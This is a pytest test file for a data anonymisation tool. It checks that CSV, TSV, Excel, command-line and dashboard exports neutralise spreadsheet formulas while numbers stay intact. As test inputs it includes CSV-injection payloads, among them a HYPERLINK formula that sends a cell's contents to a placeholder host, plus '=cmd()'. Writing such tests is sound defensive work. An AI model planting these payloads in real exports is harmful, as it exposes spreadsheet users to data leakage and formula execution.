"""Formulas in exports: none is run by a spreadsheet, numbers stay numbers, and it can be undone."""

import io
import json
import re
import xml.etree.ElementTree as tree
import zipfile

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kanon.cli.main import main
from kanon.sources.formulas import SIGNS, escape_formula, escape_formulas, is_formula
from kanon.sources.read_settings import ReadSettings
from kanon.sources.reading import read_table
from kanon.sources.text_form import TextForm
from kanon.sources.writing import table_bytes
from kanon.studio.widgets import files, picture
from support.dashboard import DATA, anonymised, ask_for_original_values, choose, go, upload
from support.plans import plan_content, qi
from support.random_tables import examples

EVIL = ["=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://x/"&A1)']
NEUTRAL = ["'" + re.sub(r"([\t\r])=", r"\1'=", text) for text in EVIL]  # those split lines, too
FINE = ["-5", "+1.50", "-1e-3", "-1,234.5", "- %"[:1] + "5 %", "a=1", " =1", "", "'", "0-5"]
UNDO = re.compile(r"(?<![^;,\t|\r\n])'(?=['\"]*[=+\-@\t\r\n＝＋－＠])")


@pytest.mark.parametrize(("text", "neutral"), [*zip(EVIL, NEUTRAL, strict=True)])
def test_what_begins_like_a_formula_gets_an_apostrophe(text, neutral):
    assert is_formula(text) and escape_formula(text) == neutral


@pytest.mark.parametrize("text", FINE)
def test_what_does_not_and_numbers_stay(text):
    assert not is_formula(text) and escape_formula(text) == text


@examples(300)
@given(st.text(st.sampled_from([*SIGNS, *"'5.a;,|\""]), max_size=8))
@example("'=1")
@example("'-5")
@example("\r'\r")
@example("x;'=1;-5;\t=1")
def test_what_was_neutralised_can_be_undone(text):
    changed = escape_formula(text)
    assert not is_formula(changed) or changed.startswith("'")
    assert UNDO.sub("", changed) == text


@examples(300)
@given(st.text(st.sampled_from([*SIGNS, *"'5.a;,|\""]), max_size=8))
@example('a;"=1"')
def test_nothing_that_another_separator_cuts_off_is_a_formula(text):
    for split in [";", ",", "|", "\t", "\n", "\r"]:
        for part in escape_formula(text).split(split):
            assert part[:1] == "'" or not is_formula(part)


@pytest.mark.parametrize("kind", ["csv", "tsv"])
@pytest.mark.parametrize("other", [";", "|", "\t", ","])
def test_a_file_that_is_split_elsewhere_has_no_formula(kind, other):
    cells = [f"x{split}{evil}" for split in ";|\t,\n" for evil in ("=1", '"=1"', "'@x", "-A1")]
    content = table_bytes(pd.DataFrame({"a": 1, "b;=c": cells}), kind, neutral=True).decode()
    for line in content.splitlines():
        for part in line.split(other):
            assert not is_formula(part) or part.lstrip('"')[:1] == "'"
    assert content.splitlines()[0] == f'"a"{"," if kind == "csv" else chr(9)}"b;\'=c"'
    found = read_table(content.encode(), f"t.{kind}", ReadSettings(None, "utf-8", ())).table
    assert [UNDO.sub("", cell) for cell in found["b;'=c"]] == cells


def table() -> pd.DataFrame:
    """Formulas in cells and in the names of columns, beside numbers of every kind."""
    return pd.DataFrame(
        {
            "=name": EVIL,
            "number": range(-4, 4),
            "share": [-0.5] * 8,
            "text": ["-5"] * 8,
            "mixed": pd.Series(["=1", -5, None, 2.5, "-7", "x", "'=1", True], dtype=object),
            "kind": pd.Categorical(["-a", "b"] * 4),
            "when": pd.to_datetime(["2020-01-02"] * 8),
        }
    )


@pytest.mark.parametrize(("kind", "separator"), [("csv", ","), ("csv", ";"), ("tsv", "\t")])
def test_a_csv_is_neutralised_only_if_that_is_asked_for(kind, separator):
    how = ReadSettings(separator, "utf-8", ())
    before = table()
    as_it_is = read_table(table_bytes(before, kind, TextForm(separator)), f"t.{kind}", how).table
    assert as_it_is["=name"].tolist() == EVIL
    content = table_bytes(before, kind, TextForm(separator), neutral=True)
    found = read_table(content, f"t.{kind}", how).table.fillna("")
    assert found.columns[0] == "'=name"
    assert found["'=name"].tolist() == NEUTRAL
    assert found["number"].tolist() == [str(n) for n in range(-4, 4)]
    assert set(found["share"]) == {"-0.5"} and set(found["text"]) == {"-5"}
    assert found["mixed"].tolist() == ["'=1", "-5", "", "2.5", "-7", "x", "''=1", "True"]
    assert found["kind"].tolist() == ["'-a", "b"] * 4
    for column in found:
        for cell in found[column]:
            assert cell[:1] not in SIGNS or float(cell) < 0
    pd.testing.assert_frame_equal(before, table())  # the table itself is left alone


@pytest.mark.parametrize("kind", ["xlsx", "parquet", "feather"])
def test_files_that_know_texts_hold_them_unaltered(kind):
    before = table().drop(columns="mixed")
    found = read_table(table_bytes(before, kind, neutral=True), f"t.{kind}", ReadSettings()).table
    assert found["=name"].tolist() == EVIL
    assert found["number"].tolist() == list(range(-4, 4))


def test_no_cell_of_a_sheet_is_a_formula_and_none_becomes_one():
    """Neither as it is opened nor after an edit, which the mark 'quotePrefix' is for."""
    evil = [*EVIL, "{=1+1}", "http://x/", "-5"]
    sheet = pd.DataFrame({"=a": evil, "-b": ["x"] * len(evil), "n": range(-5, len(evil) - 5)})
    archive = zipfile.ZipFile(io.BytesIO(table_bytes(sheet, "xlsx")))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    cells = tree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert list(cells.iter(f"{space}f")) == [] and list(cells.iter(f"{space}hyperlink")) == []
    formats = tree.fromstring(archive.read("xl/styles.xml")).find(f"{space}cellXfs")
    quoted = {str(i) for i, each in enumerate(formats) if each.get("quotePrefix") == "1"}
    marked = {each.get("r") for each in cells.iter(f"{space}c") if each.get("s") in quoted}
    assert marked == {"A1", "B1", *(f"A{row}" for row in range(2, 2 + len(EVIL)))}
    for each in cells.iter(f"{space}c"):
        assert each.get("t") == ("s" if each.get("r")[0] in "AB" or each.get("r") == "C1" else None)


def test_a_formula_among_numbers_is_marked_too():
    sheet = pd.DataFrame({"a": pd.Series([2, "=1+1"], dtype=object)})
    archive = zipfile.ZipFile(io.BytesIO(table_bytes(sheet, "xlsx")))
    assert b"quotePrefix" in archive.read("xl/styles.xml")
    assert b"=1+1" in archive.read("xl/sharedStrings.xml")
    cells = archive.read("xl/worksheets/sheet1.xml")
    assert b'<c r="A3" s=' in cells and b"<f>" not in cells


@examples(100)
@given(st.lists(st.text(st.sampled_from([*"=+-@'5a,;\"\n"]), max_size=4), min_size=1, max_size=4))
def test_no_cell_of_a_neutralised_csv_begins_with_a_sign_unless_it_is_a_number(cells):
    content = table_bytes(pd.DataFrame({"=c": cells, "x": "y"}), "csv", neutral=True)
    found = read_table(content, "t.csv", ReadSettings(",", "utf-8", ())).table.fillna("")
    assert found.columns.tolist() == ["'=c", "x"]
    assert [UNDO.sub("", cell) for cell in found["'=c"]] == cells
    assert escape_formulas(found).columns[0] == "''=c"


# --- The command line ---------------------------------------------------------------------------
PLAN = plan_content({"sex": qi(), "=note": {"role": "insensitive"}})


@pytest.fixture
def written(tmp_path, capsys):
    """Runs a plan on a table with formulas; the status, the sentence, and the file."""
    people = pd.DataFrame({"sex": ["F", "M"] * 2, "=note": ["=1+1", "-5", "@x", "fine"]})
    people.to_csv(tmp_path / "people.csv", index=False)
    (tmp_path / "plan.json").write_text(json.dumps(PLAN))

    def run(name: str, *more: str):
        out = tmp_path / name
        arguments = ["--table", str(tmp_path / "people.csv"), "--out", str(out), *more]
        status = main(["run", str(tmp_path / "plan.json"), *arguments])
        return status, capsys.readouterr().err, out

    return run


def test_the_command_line_neutralises_on_request(written):
    status, _, out = written("plain.csv")
    assert status == 0 and "=1+1" in out.read_text() and "'" not in out.read_text()
    status, _, out = written("neutral.csv", "--neutralise-formulas")
    assert status == 0
    assert out.read_text().splitlines()[0] == '"sex","\'=note"'
    assert [line.split(",")[1] for line in out.read_text().splitlines()[1:]] == [
        '"\'=1+1"', '"\'@x"', '"-5"', '"fine"'
    ]  # fmt: skip


def test_the_command_line_says_where_there_is_nothing_to_neutralise(written):
    status, said, out = written("out.parquet", "--neutralise-formulas")
    assert status == 2 and "is for CSV and TSV" in said and not out.exists()
    status, said, out = written("out.csv", "--neutralise-formulas", "--engine", "duckdb")
    assert status == 2 and "needs a table in memory" in said and not out.exists()


# --- The dashboard ------------------------------------------------------------------------------
EVIL_PEOPLE = pd.DataFrame(
    {
        "=age": ["31", "32", "33", "34"] * 3,
        "town": ["=1+1", "@x", "-y", "z"] * 3,
        "disease": ["=cmd()", "flu", "+x", "-5"] * 3,
    }
)


@pytest.mark.nightly  # in every run: the tests above, of files
def test_the_pages_neutralise_on_request(start, downloads):
    """The release, and the file with a matrix of it."""
    at = start(DATA)
    upload(at, "t.csv", table_bytes(EVIL_PEOPLE, "csv"))
    anonymised(at)
    name, make = downloads["download-release"]
    assert b"=cmd()" in make() and b"'" not in make()
    at.checkbox(key="download-neutral").check()
    go(at)
    other, make = downloads["download-release"]
    assert other != name, "another file, so another fingerprint"
    found = read_table(make(), "t.csv", ReadSettings(",", "utf-8", ())).table
    for column in found:
        assert all(cell[:1] not in SIGNS or cell == "-5" for cell in [column, *found[column]])
    assert {"-5", "'=cmd()"} <= set(found["disease"])
    choose(at, "download-format", "xlsx")
    assert [each for each in at.checkbox if each.key == "download-neutral"] == []
    go(at, "pages/utility.py")
    at.button_group(key="utility-part").set_value("matrix")
    ask_for_original_values(go(at))
    assert b"=cmd()" in downloads["utility-matrix-csv"][1]()
    assert downloads["utility-matrix-csv"][1]().startswith(b"=age,")
    at.checkbox(key="utility-matrix-neutral").check()
    go(at)
    lines = downloads["utility-matrix-csv"][1]().decode().splitlines()
    assert lines[0].startswith('"\'=age",') and ",\"'=age_" in lines[0]
    assert any("'=cmd()" in line for line in lines)
    assert not any(cell.strip('"').startswith("=") for line in lines for cell in line.split(","))


def test_the_numbers_behind_a_picture_are_neutralised(downloads, monkeypatch):
    monkeypatch.setattr(files, "get_file_name", lambda *parts: "numbers.csv")
    numbers = pd.DataFrame({"value": ["=1+1", "-5"], "share": [-0.5, 1.0]})
    picture.draw_data_button("Data", lambda: numbers, "numbers", "")
    assert downloads["numbers-data"][1]() == (b'"value","share"\n"\'=1+1","-0.5"\n"-5","1.0"\n')
